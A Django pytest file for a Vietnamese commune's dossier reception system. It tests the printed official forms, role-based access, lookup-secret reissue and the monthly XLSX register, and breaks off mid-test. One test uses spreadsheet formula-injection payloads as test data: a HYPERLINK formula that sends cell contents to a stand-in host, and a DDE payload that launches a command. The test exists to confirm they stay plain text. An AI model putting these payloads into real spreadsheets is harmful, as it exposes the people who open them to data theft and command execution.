"""The official forms 01–06: what each prints (read back from the PDF's text), who may
print them, and the new lookup secret of a reprinted receipt."""

import datetime as dt
import shutil
import subprocess
import unicodedata
from io import BytesIO
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
import segno
import time_machine
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from dossiers import codes
from dossiers.errors import InvalidTransitionError
from dossiers.models import Attachment, Channel, Dossier, Status
from dossiers.services import (
    Applicant,
    dossier_apologise,
    dossier_complete,
    dossier_hand_over,
    dossier_receive_at_counter,
    dossier_reject,
    dossier_request_supplement,
    dossier_request_supplement_at_intake,
    dossier_stop,
    dossier_transfer,
)
from dossiers.tests.conftest import office  # noqa: F401 - the commune fixture
from portal.models import AuditEvent
from portal.roles import Role
from procedures.models import Assignment, Fee
from reception.documents import context, services, views
from reception.models import Shipment
from reception.receipts import SESSION_SECRETS
from reception.tests.conftest import papers, vnpost  # noqa: F401 - fixtures
from tests.factories import UserFactory

VN = ZoneInfo("Asia/Ho_Chi_Minh")
CODE = "H56.HT-260302-0001"


def at(*moment: int) -> time_machine.travel:
    return time_machine.travel(dt.datetime(*moment, tzinfo=VN), tick=False)


def pdf_text(content: bytes) -> str:
    """The PDF's text as a reader copying it would get it (pdftotext, poppler-utils)."""
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "reading the forms back needs pdftotext: apt-get install poppler-utils"
    result = subprocess.run(  # noqa: S603 - poppler's pdftotext with fixed arguments
        [pdftotext, "-enc", "UTF-8", "-", "-"], input=content, capture_output=True, check=True
    )
    return result.stdout.decode()


def words(content: bytes) -> str:
    """The text with line breaks and runs of spaces made single spaces."""
    return " ".join(pdf_text(content).split())


def form_url(dossier: Dossier, form: str) -> str:
    return reverse("reception:documents:form", kwargs={"dossier_id": dossier.pk, "form": form})


def remember(client, dossier: Dossier, secret: str) -> None:
    """What the counter does right after a reception (the session contract)."""
    session = client.session
    session[SESSION_SECRETS] = {str(dossier.pk): secret}
    session.save()


def audit_count(dossier: Dossier) -> int:
    return AuditEvent.objects.filter(target_id=str(dossier.pk)).count()


@pytest.fixture
def people(office):  # noqa: F811 - the imported fixture
    for user, name in [
        (office.reception, "Trần Văn Bình"),
        (office.processing, "Lê Thị Hoa"),
        (office.leader, "Phạm Quốc Hùng"),
    ]:
        user.full_name = name
        user.save(update_fields=["full_name"])
    office.point.phone = "0237 3852 111"
    office.point.save(update_fields=["phone"])
    return office


@pytest.fixture
def received(people, papers):  # noqa: F811 - the imported fixture
    """Received at the counter on Monday 2 March 2026, 09:30; 3 working days."""
    Fee.objects.create(procedure=people.procedure, name="Lệ phí", amount=50000)
    with at(2026, 3, 2, 9, 30):
        return dossier_receive_at_counter(
            officer=people.reception,
            procedure=people.procedure,
            agency=people.agency,
            reception_point=people.point,
            applicant=Applicant(
                name="Nguyễn Thị Lan",
                citizen_id="038190000123",
                phone="0912345678",
                address="Số 12 phố Lê Lợi, phường Hạc Thành",
            ),
            result_delivery="postal",
            delivery_address="Số 12 phố Lê Lợi, phường Hạc Thành",
            papers=[
                {"id": papers[0], "name": "Tờ khai", "copy_type": "original", "count": 1},
                {"id": papers[1], "name": "Căn cước", "copy_type": "certified_copy", "count": 2},
            ],
            sets_count=1,
        )


@pytest.fixture
def processed(received, people):
    """Transferred, handed to a department, apologised for, completed."""
    dossier = received.dossier
    with at(2026, 3, 2, 10, 0):
        dossier_transfer(dossier_id=dossier.pk, officer=people.reception)
    with at(2026, 3, 3, 8, 0):
        dossier_hand_over(
            dossier_id=dossier.pk,
            officer=people.processing,
            to_label="Phòng Văn hóa - Xã hội",
            note="Thẩm định hồ sơ",
        )
    with at(2026, 3, 4, 9, 0):
        dossier_apologise(
            dossier_id=dossier.pk,
            officer=people.processing,
            reason="Cần xác minh thêm thông tin cư trú",
            new_due_at=dt.datetime(2026, 3, 10, 17, 0, tzinfo=VN),
        )
    with at(2026, 3, 9, 15, 0):
        dossier_complete(dossier_id=dossier.pk, officer=people.leader)
    dossier.refresh_from_db()
    return dossier


# Form 01 ---------------------------------------------------------------------------------


def test_receipt_prints_two_copies_with_code_due_time_and_secret(client, received, people):
    client.force_login(people.reception)
    remember(client, received.dossier, received.lookup_secret)

    response = client.get(form_url(received.dossier, "01"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'inline; filename="mau-01-{CODE}.pdf"'
    assert "no-store" in response["Cache-Control"]
    text = words(response.content)
    assert text.count("GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ") == 2
    assert "(Liên 1: Lưu)" in text
    assert "(Liên 2: Giao người nộp hồ sơ)" in text
    assert text.count(f"Mã hồ sơ: {CODE}") == 2
    assert f"Số: {CODE}/TNHS" in text
    assert "UBND PHƯỜNG HẠC THÀNH TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert "Thanh Hóa, ngày 02 tháng 03 năm 2026" in text
    assert "tiếp nhận hồ sơ của: Ông/Bà Nguyễn Thị Lan" in text
    assert "Thời gian nhận hồ sơ: 09 giờ 30 phút, ngày 02 tháng 03 năm 2026" in text
    assert (
        "Thời gian trả kết quả giải quyết hồ sơ: 17 giờ 00 phút, ngày 05 tháng 03 năm 2026" in text
    )
    assert "Thời gian giải quyết hồ sơ theo quy định là: 03 ngày làm việc" in text
    assert "1 Tờ khai Bản chính 01 2 Căn cước Bản sao chứng thực 02" in text
    assert "Văn bản ủy quyền" not in text  # not handed in
    assert "Số lượng hồ sơ: 01 (bộ)" in text
    assert (
        "Đăng ký nhận kết quả tại: Qua dịch vụ bưu chính công ích, địa chỉ: "
        "Số 12 phố Lê Lợi, phường Hạc Thành" in text
    )
    assert "Phí, lệ phí: 50.000 đồng (chưa thanh toán)" in text
    assert text.count("Trần Văn Bình") == 2  # the reception officer signs both copies
    # Only the applicant's copy carries the secret.
    assert text.count(received.lookup_secret) == 1
    assert f"Mã tra cứu: {received.lookup_secret}" in text
    assert "Giấy tiếp nhận hồ sơ và hẹn trả kết quả được lập thành 02 liên" in text


@override_settings(PUBLIC_BASE_URL="https://dichvucong.thanhhoa.gov.vn/")
def test_receipt_qr_code_opens_the_public_lookup_with_code_and_secret(received):
    data = context.receipt(received.dossier, secret="ABCD2345")

    url = f"https://dichvucong.thanhhoa.gov.vn/lookup/?code={CODE}#secret=ABCD2345"
    assert data["qr_url"] == url
    assert data["qr_svg"] == segno.make(url, error="m").svg_inline(scale=3, border=2, dark="#000")
    html = context_html("01", data)
    assert html.count("<svg") == 1
    assert "https://dichvucong.thanhhoa.gov.vn/lookup/" in html


def test_receipt_of_an_online_dossier_lists_its_uploaded_papers(people):
    dossier = people.dossier(Status.RECEIVED, fee_amount=30000, paid_online=True)
    for name, copy_type, digitized in [
        ("Tờ khai", "original", False),
        ("Tờ khai", "original", False),  # a second page of the same paper
        ("Giấy khai sinh", "certified_copy", True),
    ]:
        Attachment.objects.create(
            dossier=dossier,
            component_id=None,
            component_name=name,
            copy_type=copy_type,
            digitized=digitized,
            file=f"dossiers/{dossier.pk}/{name}.pdf",
            content_type="application/pdf",
            size=1,
            sha256="0" * 64,
        )

    data = context.receipt(dossier, secret="ABCD2345")

    assert data["papers"] == [
        context.Paper(name="Tờ khai", copy_type="Bản chính", count=1, digitized=False),
        context.Paper(
            name="Giấy khai sinh", copy_type="Bản sao chứng thực", count=1, digitized=True
        ),
    ]
    assert data["fees"] == "30.000 đồng (đã thanh toán trực tuyến)"


@pytest.mark.parametrize(
    ("fields", "printed"),
    [
        ({"fee_amount": 0}, "Không thu phí, lệ phí"),
        (
            {"fee_amount": 1250000, "fee_collected": True},
            "1.250.000 đồng (đã thu tại Bộ phận Một cửa)",
        ),
        ({"fee_amount": 50000}, "50.000 đồng (chưa thanh toán)"),
    ],
)
def test_receipt_says_whether_the_fees_were_paid(people, fields, printed):
    dossier = people.dossier(Status.RECEIVED, **fields)

    assert context.receipt(dossier, secret="ABCD2345")["fees"] == printed


def context_html(form: str, data: dict) -> str:
    from reception.documents.render import html

    return html(f"reception/documents/form_{form}.html", data)


def test_text_read_from_the_pdf_is_composed_even_from_decomposed_input(client, received, people):
    decomposed = unicodedata.normalize("NFD", "Nguyễn Thị Lan")
    Dossier.objects.filter(pk=received.dossier.pk).update(applicant_name=decomposed)
    client.force_login(people.reception)
    remember(client, received.dossier, received.lookup_secret)

    raw = pdf_text(client.get(form_url(received.dossier, "01")).content)

    assert unicodedata.is_normalized("NFC", raw)
    assert "Nguyễn Thị Lan" in raw
    assert "Mã hồ sơ" in raw


def test_reprint_without_the_secret_explains_and_offers_a_new_one(client, received, people):
    client.force_login(people.reception)
    remember(client, received.dossier, "WRONG234")  # stale: the hash no longer matches

    response = client.get(form_url(received.dossier, "01"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "no-store" in response["Cache-Control"]
    reissue = reverse("reception:documents:receipt-reissue", args=[received.dossier.pk])
    assert f'action="{reissue}"' in response.content.decode()
    assert received.lookup_secret not in response.content.decode()


def test_processing_officer_sees_the_explanation_without_the_button(client, received, people):
    client.force_login(people.processing)

    response = client.get(form_url(received.dossier, "01"))

    assert response.status_code == 200
    assert "/01/reissue/" not in response.content.decode()


def test_reissue_replaces_the_secret_audits_and_prints(client, received, people):
    dossier = received.dossier
    before = Dossier.objects.get(pk=dossier.pk)
    client.force_login(people.reception)

    response = client.post(reverse("reception:documents:receipt-reissue", args=[dossier.pk]))

    assert response.status_code == 302
    assert response["Location"] == form_url(dossier, "01")
    after = Dossier.objects.get(pk=dossier.pk)
    new_secret = client.session[SESSION_SECRETS][str(dossier.pk)]
    assert after.lookup_secret_hash != before.lookup_secret_hash
    assert not codes.secret_matches(after, received.lookup_secret)
    assert codes.secret_matches(after, new_secret)
    assert after.version == before.version
    assert after.status == before.status
    event = AuditEvent.objects.filter(target_id=str(dossier.pk)).order_by("-pk").first()
    assert event.event == "dossiers.lookup_secret_reissued"
    assert event.actor == people.reception
    assert event.data == {"code": CODE}
    printed = words(client.get(response["Location"]).content)
    assert f"Mã tra cứu: {new_secret}" in printed


@pytest.mark.parametrize("who", ["processing", "other_reception", "applicant"])
def test_reissue_by_anyone_but_the_reception_point_leaves_no_trace(client, received, people, who):
    dossier = received.dossier
    before = Dossier.objects.get(pk=dossier.pk)
    events = audit_count(dossier)
    client.force_login(getattr(people, who))

    response = client.post(reverse("reception:documents:receipt-reissue", args=[dossier.pk]))

    assert response.status_code == 404
    after = Dossier.objects.get(pk=dossier.pk)
    assert after.lookup_secret_hash == before.lookup_secret_hash
    assert after.version == before.version
    assert audit_count(dossier) == events
    assert codes.secret_matches(after, received.lookup_secret)


def test_reissue_is_post_only(client, received, people):
    client.force_login(people.reception)

    response = client.get(
        reverse("reception:documents:receipt-reissue", args=[received.dossier.pk])
    )

    assert response.status_code == 405


def test_reissue_for_a_dossier_not_received_says_why_and_changes_nothing(client, people):
    dossier = people.dossier(Status.SUBMITTED)
    events = audit_count(dossier)
    client.force_login(people.reception)

    response = client.post(reverse("reception:documents:receipt-reissue", args=[dossier.pk]))

    assert response.status_code == 409
    assert (
        "Không thể thực hiện thao tác này khi hồ sơ đang ở trạng thái “Mới đăng ký, chờ tiếp nhận”."
        in response.content.decode()
    )
    dossier.refresh_from_db()
    assert (dossier.lookup_secret_hash, dossier.version) == ("", 1)
    assert audit_count(dossier) == events
    assert SESSION_SECRETS not in client.session


def test_no_secret_for_a_dossier_not_received(people):
    dossier = people.dossier(Status.SUBMITTED)
    events = audit_count(dossier)

    with pytest.raises(InvalidTransitionError):
        services.receipt_reissue_secret(dossier_id=dossier.pk, officer=people.reception)

    dossier.refresh_from_db()
    assert dossier.lookup_secret_hash == ""
    assert audit_count(dossier) == events


def test_no_receipt_for_a_dossier_not_received(client, people):
    dossier = people.dossier(Status.SUBMITTED)
    client.force_login(people.reception)

    assert client.get(form_url(dossier, "01")).status_code == 404


# Who may print ------------------------------------------------------------------------------


@pytest.fixture
def manager(office):  # noqa: F811 - the imported fixture
    """Sees the commune's dossiers on dashboards, but works on none of them."""
    user = UserFactory(username="quanly", is_staff=True)
    Assignment.objects.create(user=user, role=Role.MANAGER, unit=office.unit)
    return user


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("applicant", 404),
        ("other_reception", 404),
        ("other_processing", 404),
        ("other_leader", 404),
        ("manager", 404),
        ("reception", 200),
        ("processing", 200),
        ("leader", 200),
    ],
)
def test_control_sheet_access(client, processed, people, manager, who, status):
    user = manager if who == "manager" else getattr(people, who)
    client.force_login(user)

    response = client.get(form_url(processed, "05"))

    assert response.status_code == status


def test_anonymous_is_sent_to_sign_in(client, processed):
    url = form_url(processed, "05")

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('admin:login')}?next={url}"


@pytest.fixture
def every_form(processed, people):
    """A dossier for each form: the processed one has a receipt, an apology and hand-overs;
    one was asked for papers at reception, one was refused."""
    incomplete = people.dossier(Status.SUBMITTED)
    dossier_request_supplement_at_intake(
        dossier_id=incomplete.pk, officer=people.reception, items=["Tờ khai"], reason="Thiếu"
    )
    refused = people.dossier(Status.SUBMITTED)
    dossier_reject(dossier_id=refused.pk, officer=people.reception, reason="Sai thẩm quyền")
    return {"01": processed, "02": incomplete, "03": refused, "04": processed, "05": processed}


@pytest.mark.parametrize("form", ["01", "02", "03", "04", "05"])
@pytest.mark.parametrize(("who", "status"), [("other_reception", 404), ("reception", 200)])
def test_every_form_only_for_its_own_reception_point(client, every_form, people, form, who, status):
    client.force_login(getattr(people, who))

    response = client.get(form_url(every_form[form], form))

    assert response.status_code == status
    # Form 01 without the session's secret is the reissue page, not the PDF.
    if status == 200:
        expected = "text/html; charset=utf-8" if form == "01" else "application/pdf"
        assert response["Content-Type"] == expected


def test_unknown_dossier_is_404(client, people):
    client.force_login(people.reception)
    url = reverse(
        "reception:documents:form",
        kwargs={"dossier_id": "6f1c5a7e-0000-4000-8000-000000000000", "form": "05"},
    )

    assert client.get(url).status_code == 404


@pytest.mark.parametrize("form", ["02", "03", "04"])
def test_a_form_without_its_record_is_404(client, received, people, form):
    client.force_login(people.processing)

    assert client.get(form_url(received.dossier, form)).status_code == 404


# Forms 02–05 ------------------------------------------------------------------------------


def test_supplement_request_at_reception(client, people):
    dossier = people.dossier(Status.SUBMITTED, applicant_name="Hoàng Văn Nam")
    with at(2026, 3, 2, 14, 15):
        dossier_request_supplement_at_intake(
            dossier_id=dossier.pk,
            officer=people.reception,
            items=["Bản sao giấy khai sinh", "Tờ khai có xác nhận của tổ dân phố"],
            reason="Tờ khai thiếu xác nhận nơi cư trú",
        )
    client.force_login(people.reception)

    response = client.get(form_url(dossier, "02"))

    assert response["Content-Disposition"] == f'inline; filename="mau-02-{dossier.reference}.pdf"'
    text = words(response.content)
    assert "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ" in text
    assert f"Số: {dossier.reference}/HDHS" in text
    assert f"Số tham chiếu: {dossier.reference}" in text  # no code before reception
    assert "Thanh Hóa, ngày 02 tháng 03 năm 2026" in text
    assert "UBND PHƯỜNG HẠC THÀNH TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG" in text
    assert "tiếp nhận hồ sơ của: Ông/Bà Hoàng Văn Nam" in text
    assert (
        "hoàn thiện hồ sơ gồm những nội dung như sau: "
        "1. Bản sao giấy khai sinh 2. Tờ khai có xác nhận của tổ dân phố "
        "Lý do: Tờ khai thiếu xác nhận nơi cư trú" in text
    )
    assert "Lý do: Tờ khai thiếu xác nhận nơi cư trú" in text
    assert "số điện thoại 0237 3852 111" in text
    assert "tạm dừng" not in text  # the clock had not started
    assert "NGƯỜI HƯỚNG DẪN (Ký và ghi rõ họ tên) Trần Văn Bình" in text


def test_supplement_request_during_processing_stops_the_clock(client, received, people):
    dossier = received.dossier
    with at(2026, 3, 2, 10, 0):
        dossier_transfer(dossier_id=dossier.pk, officer=people.reception)
    with at(2026, 3, 3, 9, 0):
        dossier_request_supplement(
            dossier_id=dossier.pk,
            officer=people.processing,
            items=["Bản sao giấy khai sinh"],
            reason="Thiếu giấy khai sinh",
        )
    client.force_login(people.processing)

    text = words(client.get(form_url(dossier, "02")).content)

    assert f"Mã hồ sơ: {CODE}" in text
    assert "ỦY BAN NHÂN DÂN PHƯỜNG HẠC THÀNH" in text
    assert "như sau: 1. Bản sao giấy khai sinh Lý do: Thiếu giấy khai sinh" in text
    assert "tạm dừng kể từ 09 giờ 00 phút, ngày 03 tháng 03 năm 2026" in text
    assert "NGƯỜI HƯỚNG DẪN (Ký và ghi rõ họ tên) Lê Thị Hoa" in text


def test_refusal_at_reception_gives_the_recorded_reason(client, people):
    dossier = people.dossier(Status.SUBMITTED, applicant_name="Hoàng Văn Nam")
    with at(2026, 3, 2, 14, 0):
        dossier_reject(
            dossier_id=dossier.pk,
            officer=people.reception,
            reason="Thủ tục không thuộc thẩm quyền giải quyết của Phường Hạc Thành.",
        )
    client.force_login(people.reception)

    text = words(client.get(form_url(dossier, "03")).content)

    assert "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ" in text
    assert f"Số: {dossier.reference}/TCHS" in text
    assert (
        "thông báo không tiếp nhận, giải quyết hồ sơ này với lý do cụ thể như sau: "
        "Thủ tục không thuộc thẩm quyền giải quyết của Phường Hạc Thành." in text
    )
    assert "NGƯỜI NỘP HỒ SƠ NGƯỜI TIẾP NHẬN HỒ SƠ" in text
    assert "(Ký và ghi rõ họ tên) Hoàng Văn Nam Trần Văn Bình" in text


def test_refusal_after_appraisal_gives_the_stop_reason(client, received, people):
    dossier = received.dossier
    with at(2026, 3, 2, 10, 0):
        dossier_transfer(dossier_id=dossier.pk, officer=people.reception)
    with at(2026, 3, 4, 16, 20):
        dossier_stop(
            dossier_id=dossier.pk, officer=people.leader, reason="Người yêu cầu không đủ điều kiện."
        )
    client.force_login(people.leader)

    text = words(client.get(form_url(dossier, "03")).content)

    assert "Qua thẩm định, Ủy ban nhân dân Phường Hạc Thành thông báo không giải quyết" in text
    assert "dừng giải quyết từ 16 giờ 20 phút, ngày 04 tháng 03 năm 2026" in text
    assert "Người yêu cầu không đủ điều kiện." in text
    assert "THỦ TRƯỞNG CƠ QUAN (Ký, ghi rõ họ tên và đóng dấu) Phạm Quốc Hùng" in text


def test_apology_gives_the_reason_and_the_new_date(client, processed, people):
    client.force_login(people.processing)

    response = client.get(form_url(processed, "04"))

    assert response["Content-Disposition"] == f'inline; filename="mau-04-{CODE}.pdf"'
    text = words(response.content)
    assert "PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ" in text
    assert "Thanh Hóa, ngày 04 tháng 03 năm 2026" in text
    assert "Kính gửi: Ông/Bà Nguyễn Thị Lan" in text
    assert f"Mã hồ sơ: {CODE}" in text
    assert "Vào ngày 02 tháng 03 năm 2026, Ủy ban nhân dân Phường Hạc Thành tiếp nhận" in text
    assert "Thời hạn trả kết quả giải quyết hồ sơ: 17 giờ 00 phút, ngày 05 tháng 03 năm 2026" in (
        text
    )
    assert "Lý do: Cần xác minh thêm thông tin cư trú" in text
    assert (
        "sẽ trả kết quả giải quyết hồ sơ cho Ông/Bà vào 17 giờ 00 phút, ngày 10 tháng 03 năm 2026"
        in text
    )


def test_control_sheet_lists_the_hand_overs(client, processed, people, vnpost):  # noqa: F811
    Shipment.objects.create(
        client=vnpost.client,
        dossier=processed,
        direction=Shipment.Direction.RESULT,
        service=Shipment.Service.RECEIVE_RESULT,
        bill_number="EB123456789VN",
    )
    client.force_login(people.reception)

    text = words(client.get(form_url(processed, "05")).content)

    assert "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ" in text
    assert f"Mã hồ sơ: {CODE} (Kèm theo Giấy tiếp nhận hồ sơ và hẹn trả kết quả)" in text
    assert "Cơ quan (bộ phận) giải quyết hồ sơ: Ủy ban nhân dân Phường Hạc Thành" in text
    assert (
        "1. Giao: Trung tâm Phục vụ hành chính công Phường Hạc Thành "
        "2. Nhận: Ủy ban nhân dân Phường Hạc Thành "
        "10 giờ 00 phút, ngày 02 tháng 03 năm 2026 "
        "Người giao: Trần Văn Bình Người nhận: Lê Thị Hoa Đúng hạn" in text
    )
    assert (
        "1. Giao: Ủy ban nhân dân Phường Hạc Thành 2. Nhận: Phòng Văn hóa - Xã hội "
        "08 giờ 00 phút, ngày 03 tháng 03 năm 2026 "
        "Người giao: Lê Thị Hoa Người nhận: Phạm Quốc Hùng Quá hạn" in text
    )
    assert "GHI CHÚ Thẩm định hồ sơ" in text  # the note of the second row
    assert (
        "1. Giao: Ủy ban nhân dân Phường Hạc Thành "
        "2. Nhận: Trung tâm Phục vụ hành chính công Phường Hạc Thành "
        "15 giờ 00 phút, ngày 09 tháng 03 năm 2026 Người giao: Phạm Quốc Hùng" in text
    )
    assert "vận đơn số: EB123456789VN" in text


# Form 06 ----------------------------------------------------------------------------------


@pytest.fixture
def register(processed, people):
    """March 2026 at the commune's point: the counter dossier and a returned online one;
    February's dossier and the other commune's stay out."""
    returned = people.dossier(
        Status.RETURNED,
        code="H56.HT-260310-0001",
        applicant_name="Đặng Thu Hà",
        applicant_address="Thôn Đông",
        applicant_phone="0987654321",
        received_at=dt.datetime(2026, 3, 10, 8, 5, tzinfo=VN),
        due_at=dt.datetime(2026, 3, 13, 17, 0, tzinfo=VN),
        processing_ended_at=dt.datetime(2026, 3, 12, 10, 0, tzinfo=VN),
        returned_at=dt.datetime(2026, 3, 12, 14, 30, tzinfo=VN),
        result_delivery="counter",
    )
    people.dossier(
        Status.IN_PROCESS,
        code="H56.HT-260227-0001",
        received_at=dt.datetime(2026, 2, 27, 9, 0, tzinfo=VN),
    )
    people.dossier(
        Status.IN_PROCESS,
        code="H56.101-260305-0001",
        agency=people.other_agency,
        reception_point=people.other_point,
        received_at=dt.datetime(2026, 3, 5, 9, 0, tzinfo=VN),
    )
    return processed, returned


MARCH = {"from": "2026-03-01", "to": "2026-03-31"}


def test_register_pdf_rows_and_totals(client, register, people):
    client.force_login(people.reception)

    response = client.get(reverse("reception:documents:register-pdf"), MARCH)

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'inline; filename="mau-06-so-theo-doi-ttpvhcc-14797-20260301-20260331.pdf"'
    )
    text = words(response.content)
    assert "SỔ THEO DÕI HỒ SƠ" in text
    assert "Từ ngày 01/03/2026 đến ngày 31/03/2026" in text
    # Table cells come out of the PDF in layout order; the XLSX test checks every column.
    for cell in [
        CODE,
        "Nguyễn Thị Lan",
        "Số 12 phố Lê Lợi, phường Hạc Thành, 0912345678",
        "Bưu chính công ích",
        "Quá hạn; Hẹn lại: 10/03/2026 17:00",
        "H56.HT-260310-0001",
        "Đặng Thu Hà",
        "Thôn Đông, 0987654321",
        "Trực tiếp",
        "Trước hạn",
    ]:
        assert cell in text
    assert text.index(CODE) < text.index("H56.HT-260310-0001")
    assert text.count("Cấp Giấy xác nhận tình trạng hôn nhân") == 2
    for day in ["02/03/2026", "05/03/2026", "09/03/2026", "10/03/2026", "12/03/2026"]:
        assert day in text
    assert "H56.HT-260227-0001" not in text
    assert "H56.101-260305-0001" not in text
    assert "Tổng số hồ sơ tiếp nhận: 2 (trực tiếp: 1; trực tuyến: 1; bưu chính công ích: 0)" in text
    assert "Đã trả kết quả: 1" in text


def test_register_xlsx_rows_and_totals(client, register, people):
    client.force_login(people.leader)

    response = client.get(
        reverse("reception:documents:register-xlsx"), {**MARCH, "point": people.point.pk}
    )

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="mau-06-so-theo-doi-ttpvhcc-14797-20260301-20260331.xlsx"'
    )
    assert "no-store" in response["Cache-Control"]
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ"
    assert rows[3][:3] == ("TT", "Mã hồ sơ", "Tên thủ tục hành chính")
    assert rows[4] == (
        1,
        CODE,
        "Cấp Giấy xác nhận tình trạng hôn nhân",
        1,
        "Nguyễn Thị Lan",
        "Số 12 phố Lê Lợi, phường Hạc Thành, 0912345678",
        "Ủy ban nhân dân Phường Hạc Thành",
        dt.datetime(2026, 3, 2, 9, 30),
        dt.datetime(2026, 3, 5, 17, 0),
        dt.datetime(2026, 3, 2, 10, 0),
        dt.datetime(2026, 3, 9, 15, 0),
        None,
        "Bưu chính công ích",
        None,
        "Quá hạn; Hẹn lại: 10/03/2026 17:00",
    )
    assert rows[5][:2] == (2, "H56.HT-260310-0001")
    assert rows[5][11] == dt.datetime(2026, 3, 12, 14, 30)
    assert rows[6] == (None,) * 15
    totals = [(row[0], row[2]) for row in rows[7:]]
    assert totals == [
        ("Tổng số hồ sơ tiếp nhận", 2),
        ("Trực tiếp", 1),
        ("Trực tuyến", 1),
        ("Bưu chính công ích", 0),
        ("Đã trả kết quả", 1),
    ]


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("applicant", 404),
        ("other_reception", 404),
        ("other_leader", 404),
        ("processing", 404),
        ("manager", 200),
        ("leader", 200),
        ("reception", 200),
    ],
)
def test_register_access(client, people, manager, who, status):
    client.force_login(manager if who == "manager" else getattr(people, who))

    response = client.get(
        reverse("reception:documents:register-xlsx"), {**MARCH, "point": people.point.pk}
    )

    assert response.status_code == status


def test_register_rejects_a_period_that_ends_before_it_starts(client, people):
    client.force_login(people.reception)

    response = client.get(
        reverse("reception:documents:register-pdf"), {"from": "2026-03-31", "to": "2026-03-01"}
    )

    assert response.status_code == 400
    assert 'aria-invalid="true" aria-describedby="register-to-error"' in response.content.decode()


def test_register_pdf_refuses_a_period_too_long_to_print(client, register, people, monkeypatch):
    monkeypatch.setattr(views, "REGISTER_PDF_MAX_ROWS", 1)
    client.force_login(people.reception)

    response = client.get(reverse("reception:documents:register-pdf"), MARCH)

    assert response.status_code == 400
    assert "Sổ theo dõi của kỳ này có hơn 1 hồ sơ" in response.content.decode()


def test_register_page_offers_the_officers_points(client, people):
    client.force_login(people.reception)

    response = client.get(reverse("reception:documents:register"))

    assert response.status_code == 200
    page = response.content.decode()
    assert f'<option value="{people.point.pk}" selected>{people.point.name}</option>' in page
    assert people.other_point.name not in page
    assert "aria-invalid" not in page


def test_register_counts_only_what_the_officer_sees(people):
    from reception.documents.register import Totals, register_dossiers, register_rows

    people.dossier(Status.IN_PROCESS, received_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN))
    people.dossier(
        Status.IN_PROCESS,
        agency=people.other_agency,  # received at this point for the neighbour's agency
        received_at=dt.datetime(2026, 3, 4, 9, 0, tzinfo=VN),
        channel=Channel.POSTAL,
    )
    totals = Totals()

    rows = list(
        register_rows(
            register_dossiers(
                user=people.leader,
                point=people.point,
                start=dt.date(2026, 3, 1),
                end=dt.date(2026, 3, 31),
            ),
            totals,
        )
    )

    assert [row.agency for row in rows] == ["Ủy ban nhân dân Phường Hạc Thành"]
    assert (totals.received, totals.by_channel["postal"]) == (1, 0)


def register_sheet(client, people) -> bytes:
    client.force_login(people.reception)
    response = client.get(
        reverse("reception:documents:register-xlsx"), {**MARCH, "point": people.point.pk}
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
    ],
)
def test_register_xlsx_never_turns_the_applicants_text_into_a_formula(client, people, typed):
    people.dossier(
        Status.RECEIVED,
        applicant_name=typed,
        applicant_address=typed,
        applicant_phone="",
        received_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
    )
    people.dossier(
        Status.RECEIVED,
        code="H56.HT-260304-0001",
        applicant_name="Lê Văn Tâm",
        received_at=dt.datetime(2026, 3, 4, 9, 0, tzinfo=VN),
    )

    content = register_sheet(client, people)

    with ZipFile(BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    sheet = load_workbook(BytesIO(content)).active
    name, contact = sheet["E5"], sheet["F5"]
    assert (name.value, name.data_type, name.quotePrefix) == (typed, "s", True)
    assert (contact.value, contact.data_type, contact.quotePrefix) == (typed, "s", True)
    plain = sheet["E6"]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("Lê Văn Tâm", "s", False)


def test_register_xlsx_keeps_a_carriage_return_start_as_text(client, people):
    people.dossier(
        Status.RECEIVED,
        applicant_name="\r=1+1",
        received_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
    )

    sheet = load_workbook(BytesIO(register_sheet(client, people))).active

    # XML reads a bare carriage return back as a line feed: the text is otherwise exact.
    assert sheet["E5"].value in {"\r=1+1", "\n=1+1"}
    assert (sheet["E5"].data_type, sheet["E5"].quotePrefix) == ("s", True)


def test_register_a_paused_dossier_keeps_the_timeliness_it_had_when_paused(client, people):
    from reception.documents.register import Totals, register_dossiers, register_rows

    due = dt.datetime(2026, 3, 5, 17, 0, tzinfo=VN)
    people.dossier(  # asked for a supplement on 3 March, before its due time
        Status.SUPPLEMENT_REQUESTED,
        code="H56.HT-260302-0001",
        received_at=dt.datetime(2026, 3, 2, 9, 0, tzinfo=VN),
        due_at=due,
        paused_at=dt.datetime(2026, 3, 3, 9, 0, tzinfo=VN),
    )
    people.dossier(  # paused on 6 March, already late
        Status.FINANCIAL_OBLIGATION,
        code="H56.HT-260302-0002",
